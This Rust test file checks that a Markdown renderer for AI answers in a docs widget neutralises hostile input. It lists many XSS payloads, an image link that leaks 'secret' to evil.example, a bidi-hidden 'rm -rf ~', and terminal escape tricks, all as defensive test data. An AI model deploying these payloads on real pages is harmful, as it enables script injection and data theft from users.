//! Safe Markdown rendering: hostile model output, streamed prefixes, citations, structure, caps.

use docent_core::cite::Source;
use docent_core::render::{
    classify_url, is_site_link, render_markdown, RenderOptions, Rendered, UrlKind,
};
use proptest::prelude::*;

/// The upstream double's HOSTILE answer (contract), plus a tail of classic XSS vectors.
const HOSTILE: &str = r#"Here is the answer [1].

<img src=x onerror="window.__pwned=1">

<script>window.__pwned=1</script>

Click [click](javascript:window.__pwned=1) or [x](&#106;avascript:window.__pwned=1) now.

![i](https://evil.example/leak?q=secret)

Unknown citation [99] and known [2].

```js
console.log("unclosed fence
"#;

const XSS_VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)//>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "text <b onmouseover=alert(1)>bold</b> inline html",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a](java&#09;script:alert(1))",
    "[a](java&Tab;script:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](&#x6A;avascript:alert(1))",
    "[a](&#0000106&#0000097vascript:alert(1))",
    "[a](%6Aavascript:alert(1))",
    "[a](jav%0Aascript:alert(1))",
    "[a](\\javascript:alert(1))",
    "[a](  javascript:alert(1))",
    "[a](\u{200b}javascript:alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "[a][r]\n\n[r]: javascript:alert(1)",
    "[1]: javascript:alert(1)\n\nsee [1]",
    "![a](javascript:alert(1))",
    "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[![a](https://evil.example/x.png)](javascript:alert(1))",
    "# Heading {#id onclick=alert(1)}",
    "[[javascript:alert(1)]]",
    "[a](http://ok.example/\"onmouseover=\"alert(1))",
    "[a](http://ok.example/x \"title\" onmouseover=alert(1))",
    "```\"><script>alert(1)</script>\ncode\n```",
    "``` onclick=alert(1)\ncode\n```",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "> <img src=x onerror=alert(1)>\n> quote",
    "- item <svg onload=alert(1)>\n- [ ] task",
    "<!-- comment --><![CDATA[<script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script\\>alert(1)\\</script\\>",
];

fn sources() -> Vec<Source> {
    vec![
        Source {
            n: 1,
            url: "https://docs.example.com/guide.html#setup".into(),
            title: "Guide".into(),
            breadcrumb: "Guide › Setup".into(),
            chunks: vec![0],
        },
        Source {
            n: 2,
            url: "ref/config.html#build-target-dir".into(),
            title: "Config \"ref\"".into(),
            breadcrumb: "Build".into(),
            chunks: vec![1],
        },
    ]
}

fn opts() -> RenderOptions {
    RenderOptions {
        sources: sources(),
        docs_origin: Some("https://docs.example.com".into()),
        max_output_bytes: 1 << 20,
        marks: Vec::new(),
        ascii_host: None,
    }
}

const ALLOWED_TAGS: &[&str] = &[
    "p",
    "h3",
    "h4",
    "h5",
    "h6",
    "blockquote",
    "div",
    "pre",
    "code",
    "ol",
    "ul",
    "li",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "em",
    "strong",
    "del",
    "sup",
    "sub",
    "a",
    "img",
    "br",
    "hr",
    "dl",
    "dt",
    "dd",
    "span",
];
const ALLOWED_ATTRS: &[&str] =
    &["href", "src", "alt", "title", "class", "rel", "target", "start", "align", "loading"];
const VOID: &[&str] = &["img", "br", "hr"];

fn unescape_attr(v: &str) -> String {
    v.replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&amp;", "&")
}

/// Parse our writer's HTML strictly: only allowed tags and attributes, balanced, safe URLs,
/// no raw `<`/`>` in text. Returns the problem, if any.
fn check_safe_and_well_formed(html: &str) -> Result<(), String> {
    let mut stack: Vec<String> = Vec::new();
    let mut rest = html;
    while let Some(lt) = rest.find('<') {
        if rest[..lt].contains('>') {
            return Err(format!(
                "raw '>' in text before {:?}",
                &rest[lt..(lt + 40).min(rest.len())]
            ));
        }
        let after = &rest[lt + 1..];
        let gt = after.find('>').ok_or("unterminated tag")?;
        let tag = &after[..gt];
        rest = &after[gt + 1..];
        if let Some(name) = tag.strip_prefix('/') {
            match stack.pop() {
                Some(open) if open == name => {}
                other => return Err(format!("closing </{name}> but open is {other:?}")),
            }
            continue;
        }
        let name_end = tag.find(' ').unwrap_or(tag.len());
        let name = &tag[..name_end];
        if !ALLOWED_TAGS.contains(&name) {
            return Err(format!("tag <{name}> not allowed"));
        }
        let mut attrs = &tag[name_end..];
        while !attrs.trim().is_empty() {
            attrs = attrs.trim_start();
            let eq = attrs.find("=\"").ok_or_else(|| format!("malformed attributes in <{tag}>"))?;
            let attr = &attrs[..eq];
            let vend = attrs[eq + 2..].find('"').ok_or("unterminated attribute")? + eq + 2;
            let value = unescape_attr(&attrs[eq + 2..vend]);
            attrs = &attrs[vend + 1..];
            if !ALLOWED_ATTRS.contains(&attr) {
                return Err(format!("attribute {attr} not allowed in <{tag}>"));
            }
            if attr == "href" || attr == "src" {
                if classify_url(&value).is_none() {
                    return Err(format!("unsafe {attr}={value:?}"));
                }
                let squashed: String =
                    value.chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect();
                if squashed.to_lowercase().contains("javascript:") {
                    return Err(format!("javascript: in {attr}"));
                }
            }
            if attr == "src" {
                match classify_url(&value) {
                    Some(UrlKind::Relative) => {}
                    Some(UrlKind::Absolute { origin }) if origin == "https://docs.example.com" => {}
                    other => {
                        return Err(format!("image from another origin: {value:?} ({other:?})"))
                    }
                }
            }
        }
        if !VOID.contains(&name) {
            stack.push(name.to_string());
        }
    }
    if rest.contains('>') {
        return Err("raw '>' in trailing text".into());
    }
    if !stack.is_empty() {
        return Err(format!("unclosed tags {stack:?}"));
    }
    Ok(())
}

fn assert_safe(md: &str, r: &Rendered) {
    if let Err(e) = check_safe_and_well_formed(&r.html) {
        panic!("unsafe or malformed output: {e}\ninput: {md:?}\noutput: {}", r.html);
    }
    assert!(!r.html.to_ascii_lowercase().contains("<script"), "{}", r.html);
    assert!(!r.html.to_ascii_lowercase().contains("<img src=x"), "{}", r.html);
}

#[test]
fn hostile_answer_from_the_upstream_double_executes_nothing() {
    let r = render_markdown(HOSTILE, &opts());
    assert_safe(HOSTILE, &r);
    let html = &r.html;
    // Raw HTML is visible as text.
    assert!(html.contains("&lt;script&gt;window.__pwned=1&lt;/script&gt;"), "{html}");
    assert!(html.contains("&lt;img src=x onerror=&quot;window.__pwned=1&quot;&gt;"), "{html}");
    // Dangerous links are reduced to their text.
    assert!(html.contains("Click click or x now."), "{html}");
    // The image to another host is not loaded: shown as a link.
    assert!(!html.contains("<img"), "{html}");
    assert!(html.contains("href=\"https://evil.example/leak?q=secret\""), "{html}");
    // [99] dropped, [1] and [2] linked.
    assert!(!html.contains("[99]"), "{html}");
    assert_eq!(r.cited, vec![1, 2]);
    // The unclosed fence renders as code.
    assert!(html.contains("<div class=\"docent-code\"><pre><code class=\"language-js\">console.log(&quot;unclosed fence\n</code></pre></div>"), "{html}");
    assert!(!r.truncated);
}

#[test]
fn classic_xss_vectors_are_all_neutralised() {
    for v in XSS_VECTORS {
        let r = render_markdown(v, &opts());
        assert_safe(v, &r);
        let lower = r.html.to_ascii_lowercase();
        for bad in ["javascript:", "vbscript:", "data:", "file:"] {
            for attr in ["href=\"", "src=\""] {
                assert!(!lower.contains(&format!("{attr}{bad}")), "{v:?} -> {}", r.html);
            }
        }
        assert!(
            !r.html.contains(" onerror=\"") && !r.html.contains(" onclick=\""),
            "{v:?} -> {}",
            r.html
        );
    }
}

#[test]
fn encoded_javascript_urls_are_all_rejected() {
    for u in [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        " \u{1}javascript:alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6a;avascript:alert(1)",
        "&#X6A&#x61vascript:alert(1)",
        "javascript&colon;alert(1)",
        "javascript&COLON;alert(1)",
        "java&Tab;script:alert(1)",
        "%6Aavascript:alert(1)",
        "java%09script:alert(1)",
        "&amp;#106;avascript:alert(1)",
        "\\javascript:alert(1)",
        "j\\avascript:alert(1)",
        "javascript\u{200b}:alert(1)",
        "vbscript:x",
        "data:text/html,x",
        "mailto:a@b.c",
        "",
        "   ",
        "http:",
        "https://",
    ] {
        assert_eq!(classify_url(u), None, "{u:?} must be rejected");
    }
}

#[test]
fn ordinary_urls_are_classified() {
    assert_eq!(classify_url("#frag"), Some(UrlKind::Fragment));
    assert_eq!(classify_url("guide/intro.html#x"), Some(UrlKind::Relative));
    assert_eq!(classify_url("/abs/path?q=a:b"), Some(UrlKind::Relative));
    assert_eq!(
        classify_url("HTTPS://Docs.Example.com/a"),
        Some(UrlKind::Absolute { origin: "https://docs.example.com".into() })
    );
    assert_eq!(
        classify_url("http://x.org:8080"),
        Some(UrlKind::Absolute { origin: "http://x.org:8080".into() })
    );
    assert_eq!(
        classify_url("//evil.example/x"),
        Some(UrlKind::Absolute { origin: "//evil.example".into() })
    );
    assert_eq!(
        classify_url("\\\\evil.example/x"),
        Some(UrlKind::Absolute { origin: "//evil.example".into() })
    );
}

#[test]
fn images_load_only_from_the_docs_origin_or_relative_paths() {
    let r = render_markdown("![logo](https://docs.example.com/logo.png) ![rel](img/a.png) ![ext](https://cdn.example/x.png) ![ui](https://docs.example.com@evil.example/x.png) ![pr](//evil.example/y.png)", &opts());
    assert_safe("images", &r);
    assert!(
        r.html.contains(
            "<img src=\"https://docs.example.com/logo.png\" alt=\"logo\" loading=\"lazy\">"
        ),
        "{}",
        r.html
    );
    assert!(r.html.contains("<img src=\"img/a.png\" alt=\"rel\""), "{}", r.html);
    assert!(r.html.contains("<a href=\"https://cdn.example/x.png\" rel=\"nofollow noopener noreferrer\" target=\"_blank\">image: ext</a>"), "{}", r.html);
    assert_eq!(r.html.matches("<img").count(), 2, "{}", r.html);
    // Without a docs origin only relative images load.
    let r =
        render_markdown("![logo](https://docs.example.com/logo.png)", &RenderOptions::default());
    assert!(!r.html.contains("<img"), "{}", r.html);
}

#[test]
fn an_encoded_slash_before_an_at_sign_is_not_the_docs_origin() {
    // A browser reads `https://docs.example.com%2F@evil.example/` as evil.example (the part
    // before `@` is a user name): percent-escapes and entities in an authority are not decoded.
    for u in [
        "https://docs.example.com%2F@evil.example/",
        "https://docs.example.com%252F@evil.example/",
        "https://docs.example.com&sol;@evil.example/",
        "https://docs.example.com%5C@evil.example/",
        "//docs.example.com%2F@evil.example/",
        " https://docs.example.com%2f@evil.example/",
    ] {
        assert!(!is_site_link(u, Some("https://docs.example.com")), "{u}");
        if u.contains("&sol;") {
            // Native pulldown-cmark decodes HTML5 entities into a real slash (a path on the
            // docs origin); the widget's keeps `&sol;` as written, which is_site_link judged.
            continue;
        }
        let r = render_markdown(&format!("![p]({u}p.png?q=secret) [l]({u}x)"), &opts());
        assert_safe(u, &r);
        assert!(!r.html.contains("<img"), "{u}: {}", r.html);
        assert!(r.html.contains("target=\"_blank\""), "{u}: an external link: {}", r.html);
    }
    // Written plainly, or with escapes only in the path, the docs origin is still the docs origin.
    for u in ["https://docs.example.com/a%20b.png", "https://Docs.Example.com/x.png"] {
        assert!(is_site_link(u, Some("https://docs.example.com")), "{u}");
    }
}

#[test]
fn raw_html_is_shown_as_text() {
    let r = render_markdown("<div>\n<b>hi</b>\n</div>\n\nand <kbd>Ctrl</kbd> inline", &opts());
    assert_safe("raw", &r);
    assert!(r.html.contains("&lt;b&gt;hi&lt;/b&gt;"), "{}", r.html);
    assert!(r.html.contains("and &lt;kbd&gt;Ctrl&lt;/kbd&gt; inline"), "{}", r.html);
}

#[test]
fn citations_link_to_their_sources_and_unknown_numbers_are_dropped() {
    let r =
        render_markdown("Set it [2]. Also [1][2], see [1, 2] and [3] and [0] and [1234].", &opts());
    assert_safe("cites", &r);
    assert!(r.html.contains(
        "<a class=\"docent-cite\" href=\"ref/config.html#build-target-dir\" title=\"Config &quot;ref&quot; › Build\">[2]</a>"
    ), "{}", r.html);
    assert!(r.html.contains("<a class=\"docent-cite\" href=\"https://docs.example.com/guide.html#setup\" title=\"Guide › Setup\">[1]</a>"));
    assert!(!r.html.contains("[3]"), "{}", r.html);
    assert!(r.html.contains("[0]"), "[0] is not a citation: {}", r.html);
    assert!(r.html.contains("[1234]"), "long numbers are not citations: {}", r.html);
    assert_eq!(r.cited, vec![2, 1]);
}

#[test]
fn citations_are_not_made_inside_code_or_links_or_from_escaped_brackets() {
    let r = render_markdown(
        "`arr[1]` and [see [1]](https://x.example) and arr\\[1\\] and\n\n```\nv[2]\n```",
        &opts(),
    );
    assert_safe("code", &r);
    assert!(r.cited.is_empty(), "{:?} {}", r.cited, r.html);
    assert!(r.html.contains("<code>arr[1]</code>"));
    assert!(r.html.contains("arr[1] and"), "{}", r.html);
}

#[test]
fn code_blocks_and_tables_are_wrapped_for_the_widget() {
    let md = "```rust\nfn main() {}\n```\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n";
    let r = render_markdown(md, &opts());
    assert_safe(md, &r);
    assert!(r.html.contains("<div class=\"docent-code\"><pre><code class=\"language-rust\">fn main() {}\n</code></pre></div>"), "{}", r.html);
    assert!(r.html.contains("<div class=\"docent-table\"><table><thead><tr><th align=\"left\">a</th><th align=\"right\">b</th></tr></thead><tbody><tr><td align=\"left\">1</td><td align=\"right\">2</td></tr></tbody></table></div>"), "{}", r.html);
}

#[test]
fn markdown_structure_renders() {
    let md = "# Title\n\nSome *em* **strong** ~~del~~ `code`  \nbreak\n\n> quote\n\n3. three\n4. four\n\n- [x] done\n- [ ] todo\n\n---\n";
    let r = render_markdown(md, &opts());
    assert_safe(md, &r);
    for frag in [
        "<h3>Title</h3>",
        "<em>em</em>",
        "<strong>strong</strong>",
        "<del>del</del>",
        "<code>code</code>",
        "<br>",
        "<blockquote>",
        "<ol start=\"3\">",
        "☑ done",
        "☐ todo",
        "<hr>",
    ] {
        assert!(r.html.contains(frag), "{frag} missing in {}", r.html);
    }
}

#[test]
fn links_to_other_sites_open_safely_and_docs_links_stay_plain() {
    let r = render_markdown(
        "[ext](https://other.example/a) [doc](https://docs.example.com/b) [rel](c.html) [frag](#d)",
        &opts(),
    );
    assert_safe("links", &r);
    assert!(r.html.contains("<a href=\"https://other.example/a\" rel=\"nofollow noopener noreferrer\" target=\"_blank\">ext</a>"));
    assert!(r.html.contains("<a href=\"https://docs.example.com/b\">doc</a>"));
    assert!(r.html.contains("<a href=\"c.html\">rel</a>"));
    assert!(r.html.contains("<a href=\"#d\">frag</a>"));
}

#[test]
fn a_link_off_the_site_shows_its_host_unless_its_text_names_it() {
    let host = |h: &str| format!("<span class=\"docent-link-host\"> ({h})</span>");
    let r = render_markdown(
        "[https://docs.example.com/login](https://evil.example/login) \
         [docs.example.com](https://docs.example.com.evil.example/) \
         [`docs.example.com`](https://user@evil.example/) \
         [https://docs.example.com@evil.example/](https://docs.example.com@evil.example/) \
         [the RFC](https://www.rfc-editor.org/rfc/rfc9110) \
         [https://www.rfc-editor.org/rfc/rfc9110](https://www.rfc-editor.org/rfc/rfc9110) \
         <https://Other.Example/a> [doc](https://docs.example.com/b) \
         ![diagram](https://cdn.example/d.png)",
        &opts(),
    );
    assert_safe("hosts", &r);
    let after = |text: &str| {
        let at = r.html.find(text).unwrap_or_else(|| panic!("{text} missing in {}", r.html));
        r.html[at + text.len()..].to_string()
    };
    // Text that reads as one site while the link goes to another: the real host follows.
    assert!(after("https://docs.example.com/login</a>").starts_with(&host("evil.example")));
    assert!(after(">docs.example.com</a>").starts_with(&host("docs.example.com.evil.example")));
    assert!(after("docs.example.com</code></a>").starts_with(&host("evil.example")));
    // A user name is not the host, in the text or the URL.
    assert!(after("https://docs.example.com@evil.example/</a>").starts_with(&host("evil.example")));
    // Text that names no host gets it; text naming the link's own host does not.
    assert!(after("the RFC</a>").starts_with(&host("www.rfc-editor.org")));
    assert!(!after("rfc-editor.org/rfc/rfc9110</a>").starts_with("<span"));
    assert!(!after("https://Other.Example/a</a>").starts_with("<span"));
    // Links on the docs site are left alone; an image from elsewhere is a link with its host.
    assert!(!after(">doc</a>").starts_with("<span"));
    assert!(after("image: diagram</a>").starts_with(&host("cdn.example")));
}

#[test]
fn bidi_controls_in_a_links_text_never_hide_its_host() {
    // U+202E shows "https://evil.io/nigol/moc.elpmaxe.scod//:sptth" as
    // "https://docs.example.com/login/oi.live//:sptth": the text spells a URL on the link's own
    // host, and reads as the docs site. The host is shown after it.
    let host = "<span class=\"docent-link-host\"> (evil.io)</span>";
    for text in [
        "\u{202e}https://evil.io/nigol/moc.elpmaxe.scod//:sptth\u{202c}",
        "https://evil.io/\u{2067}nigol/moc.elpmaxe.scod\u{2069}",
        "https://evil.io/\u{200f}login",
    ] {
        let r = render_markdown(&format!("[{text}](https://evil.io/)"), &opts());
        assert_safe(text, &r);
        assert!(r.html.contains(&format!("</a>{host}")), "{text:?}: {}", r.html);
    }
    // Plain text naming the link's own host still needs no host after it.
    let r = render_markdown("[https://evil.io/x](https://evil.io/x)", &opts());
    assert!(!r.html.contains("docent-link-host"), "{}", r.html);
}

#[test]
fn code_keeps_no_bidi_control_so_what_is_copied_is_what_was_shown() {
    // "Trojan Source": balanced isolates and overrides show a line of code in another order
    // than the one the copy button (or a selection) takes into a terminal. Paired controls in
    // prose stay (right-to-left text uses them).
    let md = "Run:\n\n```sh\nrm -rf ~ \u{2067}# \u{2066}echo safe\u{2069}\u{2069}\n```\n\n\
              Or `a\u{202e}b\u{202c}c`, in prose \u{202e}evil\u{202c} stays.";
    let r = render_markdown(md, &opts());
    assert_safe(md, &r);
    assert!(
        r.html.contains("<code class=\"language-sh\">rm -rf ~ # echo safe\n</code>"),
        "{}",
        r.html
    );
    assert!(r.html.contains("<code>abc</code>"), "{}", r.html);
    assert!(r.html.contains("\u{202e}evil\u{202c}"), "{}", r.html);
}

#[test]
fn control_characters_never_reach_the_page_or_what_is_copied() {
    // Invisible on the page, yet copied with the text: `ESC[201~` ends a terminal's bracketed
    // paste, so a pasted snippet runs before the reader has looked at it.
    let md = "Paste `x\u{1b}[201~y` then:\n\n```sh\necho hi\u{1b}[201~\u{9b}2J\u{8}\u{7f}\r\nrm\tx\n```\n\nText\u{7}\u{0} end.";
    let r = render_markdown(md, &opts());
    assert_safe(md, &r);
    assert!(!r.html.chars().any(|c| c.is_control() && c != '\n' && c != '\t'), "{:?}", r.html);
    assert!(r.html.contains("<code>x[201~y</code>"), "{}", r.html);
    assert!(r.html.contains("echo hi[201~2J\nrm\tx\n</code>"), "{:?}", r.html);
}

#[test]
fn a_host_in_look_alike_letters_is_shown_in_its_ascii_form() {
    // `dоcs.example.com` with a Cyrillic `о` is another host that reads as the docs host: a
    // link whose text spelt it showed no host at all, and a host shown after a link read as
    // the docs site. Browsers show such names as Punycode; the widget asks its browser for
    // that form (here a stand-in), and shows the host after every link to it.
    fn ascii(host: &str) -> Option<String> {
        (host == "dоcs.example.com").then(|| "xn--dcs-sed.example.com".to_string())
    }
    let md = "[https://dоcs.example.com/login](https://dоcs.example.com/login), \
              <https://dоcs.example.com/> and [the docs](https://dоcs.example.com/)";
    let r = render_markdown(md, &RenderOptions { ascii_host: Some(ascii), ..opts() });
    assert_safe(md, &r);
    assert_eq!(r.html.matches(" (xn--dcs-sed.example.com)</span>").count(), 3, "{}", r.html);
    // Without an ASCII form the host is shown as written, still after every link.
    let r = render_markdown(md, &opts());
    assert_eq!(r.html.matches(" (dоcs.example.com)</span>").count(), 3, "{}", r.html);
    // ASCII hosts are shown as they are, and named by a link text that spells them.
    let r = render_markdown(
        "[https://evil.example/](https://evil.example/) [x](https://evil.example/)",
        &RenderOptions { ascii_host: Some(|_| Some("wrong".into())), ..opts() },
    );
    assert_eq!(r.html.matches(" (evil.example)</span>").count(), 1, "{}", r.html);
}

#[test]
fn a_definition_for_a_citation_number_never_turns_the_citation_into_its_link() {
    // `[1]: https://evil.example` made every `[1]` a link there (host shown, citation gone).
    for md in [
        "Install it [1].\n\n[1]: https://evil.example/x",
        "Install it [1][].\n\n[1]: https://evil.example/x",
        "Install it [1].\n\n[1]: /logout",
    ] {
        let r = render_markdown(md, &opts());
        assert_safe(md, &r);
        assert!(!r.html.contains("evil.example") && !r.html.contains("logout"), "{md}: {}", r.html);
        assert_eq!(r.html.matches("class=\"docent-cite\"").count(), 1, "{md}: {}", r.html);
    }
    // `[the docs][1]`: its words stay, as text, followed by the citation.
    let r = render_markdown("See [the docs][1].\n\n[1]: https://evil.example/x", &opts());
    assert!(r.html.starts_with("<p>See the docs<a class=\"docent-cite\""), "{}", r.html);
    assert!(!r.html.contains("evil.example"), "{}", r.html);
    // A named reference is an ordinary link still.
    let r = render_markdown("See [the docs][d].\n\n[d]: https://docs.example.com/x", &opts());
    assert!(r.html.contains("<a href=\"https://docs.example.com/x\">the docs</a>"), "{}", r.html);
}

#[test]
fn a_link_whose_text_is_a_citation_marker_is_that_citation_not_its_link() {
    // `[[1]](/logout)` showed an ordinary link reading "[1]": a reader takes it for the
    // citation and lands on a path the answer chose.
    for md in [
        "Install it [[1]](/logout).",
        "Install it [[1]](https://evil.example/x).",
        "Install it [ [1] ](/logout).",
        "Install it [\\[1\\]](/logout).",
    ] {
        let r = render_markdown(md, &opts());
        assert_safe(md, &r);
        assert!(!r.html.contains("logout") && !r.html.contains("evil.example"), "{md}: {}", r.html);
        assert_eq!(r.html.matches("class=\"docent-cite\"").count(), 1, "{md}: {}", r.html);
        assert_eq!(r.cited, vec![1], "{md}");
    }
    // A number with no source: plain text, no link.
    let r = render_markdown("See [[9]](/logout).", &opts());
    assert_eq!(r.html, "<p>See [9].</p>");
    // Words around the number keep the link (it does not read as a citation).
    let r = render_markdown("See [step [1]](/guide/x).", &opts());
    assert!(r.html.contains("<a href=\"/guide/x\">step [1]</a>"), "{}", r.html);
}

#[test]
fn an_email_autolink_is_text_not_a_link_to_a_page() {
    let r = render_markdown("Write to <help@docs.example.com>.", &opts());
    assert_safe("email", &r);
    assert_eq!(r.html, "<p>Write to help@docs.example.com.</p>");
}

#[test]
fn a_long_paragraph_of_escaped_citations_stays_text_and_real_ones_link() {
    // Every `\[1\]` is literal text and the `[1]` after them a citation: the lookup of the
    // literal positions must not skip or misplace one (it is a binary search now).
    let md = format!("{}see [1] and \\[1\\] then [1]", "\\[1\\] ".repeat(5_000));
    let r = render_markdown(&md, &opts());
    assert_safe("escaped", &r);
    assert_eq!(
        r.html.matches("class=\"docent-cite\"").count(),
        2,
        "{}",
        &r.html[r.html.len() - 400..]
    );
    assert_eq!(r.html.matches("[1]").count(), 5_003);
}

#[test]
fn a_huge_table_is_cut_at_the_cap_and_stays_well_formed() {
    let mut md = String::from("|a|b|c|d|e|\n|-|-|-|-|-|\n");
    while md.len() < 10_000 {
        md.push_str("|x|y|z|w|v|\n");
    }
    let unlimited = render_markdown(&md, &opts());
    assert!(!unlimited.truncated);
    assert!(unlimited.html.len() > 20_000, "expands: {}", unlimited.html.len());
    for cap in [0, 5, 64, 1000, 8_192] {
        let r = render_markdown(&md, &RenderOptions { max_output_bytes: cap, ..opts() });
        assert!(r.truncated);
        assert!(r.html.len() <= cap, "{} > {cap}", r.html.len());
        assert_safe(&md, &r);
    }
}

#[test]
fn a_hostile_answer_far_past_the_cap_is_not_parsed_to_its_end() {
    // The widget renders the whole answer again for every streamed chunk. Past the output cap
    // nothing more can show, yet every citation was still looked up and every event parsed:
    // 1 MB of `[1]` took about 10 s per render in a debug build.
    let md = "[1]".repeat(350_000);
    let cap = 4096;
    let start = std::time::Instant::now();
    let r = render_markdown(&md, &RenderOptions { max_output_bytes: cap, ..opts() });
    let took = start.elapsed();
    assert!(r.truncated && r.html.len() <= cap);
    assert_safe("citations", &r);
    assert!(took < std::time::Duration::from_secs(2), "{took:?}");
    // Input that shows nothing (link definitions) counts too: past twice the cap it is not read,
    // and the answer says it was cut.
    let mut md = String::from("Intro.\n\n");
    while md.len() < 10 * cap {
        md.push_str("[a]: /b\n");
    }
    md.push_str("\nTail.");
    let r = render_markdown(&md, &RenderOptions { max_output_bytes: cap, ..opts() });
    assert_eq!(r.html, "<p>Intro.</p>");
    assert!(r.truncated);
    let r = render_markdown(&md, &opts());
    assert_eq!(r.html, "<p>Intro.</p><p>Tail.</p>");
    assert!(!r.truncated);
}

#[test]
fn quotes_and_lists_nested_a_hundred_thousand_deep_render_quickly_and_shallow() {
    // pulldown-cmark matches every open container again on each following line: one line
    // opening 64 000 quotes or lists, then 64 000 plain lines, took minutes to render (and the
    // widget renders again for every streamed chunk). Markers past column 128 are text now.
    for opener in ["> ", "- ", "1. ", "> - "] {
        let md = format!("{}a\n{}", opener.repeat(64_000 / opener.len() * 2), "b\n".repeat(64_000));
        let start = std::time::Instant::now();
        let r = render_markdown(&md, &opts());
        let took = start.elapsed();
        assert_safe(opener, &r);
        let depth = r.html.matches("<blockquote>").count() + r.html.matches("<li>").count();
        assert!(depth <= 130, "{opener:?}: {depth} containers");
        assert!(took < std::time::Duration::from_secs(5), "{opener:?}: {took:?}");
    }
    // Ordinary nesting is untouched, and so are the byte offsets of what follows.
    let r = render_markdown("> > - a [1]\n>   b", &opts());
    assert!(r.html.starts_with("<blockquote><blockquote><ul><li>a "), "{}", r.html);
}

#[test]
fn an_unfinished_code_fence_mid_stream_renders_as_code() {
    let r = render_markdown("Try this:\n\n```python\nprint('hi')\nfor x in", &opts());
    assert_safe("fence", &r);
    assert!(r.html.ends_with("<div class=\"docent-code\"><pre><code class=\"language-python\">print(&#39;hi&#39;)\nfor x in</code></pre></div>"), "{}", r.html);
}

#[test]
fn rendering_is_deterministic_and_empty_input_gives_empty_output() {
    assert_eq!(render_markdown("", &opts()), Rendered::default());
    assert_eq!(render_markdown(HOSTILE, &opts()), render_markdown(HOSTILE, &opts()));
}

fn hostile_corpus() -> String {
    let mut s = String::from(HOSTILE);
    s.push_str("```\n\n");
    for v in XSS_VECTORS {
        s.push_str(v);
        s.push_str("\n\n");
    }
    s
}

#[test]
fn every_byte_prefix_of_the_hostile_corpus_renders_safely() {
    let corpus = hostile_corpus();
    let mut cut = 0;
    while cut <= corpus.len() {
        if corpus.is_char_boundary(cut) {
            let prefix = &corpus[..cut];
            let r = render_markdown(prefix, &opts());
            assert_safe(prefix, &r);
        }
        cut += 1;
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn random_prefixes_of_shuffled_hostile_inputs_render_safely(
        picks in proptest::collection::vec(0usize..XSS_VECTORS.len(), 1..8),
        seps in proptest::collection::vec(prop_oneof![Just(""), Just(" "), Just("\n"), Just("\n\n"), Just("> "), Just("- "), Just("| "), Just("```\n"), Just("["), Just("]("), Just("<"), Just("&#")], 1..8),
        frac in 0.0f64..=1.0,
        cap in prop_oneof![Just(1usize << 20), 0usize..2000],
    ) {
        let mut md = String::new();
        for (i, p) in picks.iter().enumerate() {
            md.push_str(XSS_VECTORS[*p]);
            md.push_str(seps[i % seps.len()]);
        }
        let cut = docent_core::text::floor_char_boundary(&md, ((md.len() as f64) * frac) as usize);
        let prefix = &md[..cut];
        let r = render_markdown(prefix, &RenderOptions { max_output_bytes: cap, ..opts() });
        prop_assert!(r.html.len() <= cap);
        if let Err(e) = check_safe_and_well_formed(&r.html) {
            prop_assert!(false, "{} for {:?} -> {}", e, prefix, r.html);
        }
    }

    #[test]
    fn arbitrary_text_never_produces_foreign_tags(s in "[ -~\n\t]{0,300}") {
        let r = render_markdown(&s, &opts());
        if let Err(e) = check_safe_and_well_formed(&r.html) {
            prop_assert!(false, "{} for {:?} -> {}", e, s, r.html);
        }
    }
}

#[test]
fn native_builds_decode_every_html5_entity() {
    // Only the wasm build carries the short HTML 4 table (vendor/README.md; tests/logic.rs checks
    // the widget's side): indexing and llms keep every entity.
    let r = docent_core::render::render_markdown(
        "&ApplyFunction;&bopf; &eacute;",
        &docent_core::render::RenderOptions::default(),
    );
    assert!(r.html.contains("\u{2061}\u{1D553} é"), "{}", r.html);
}
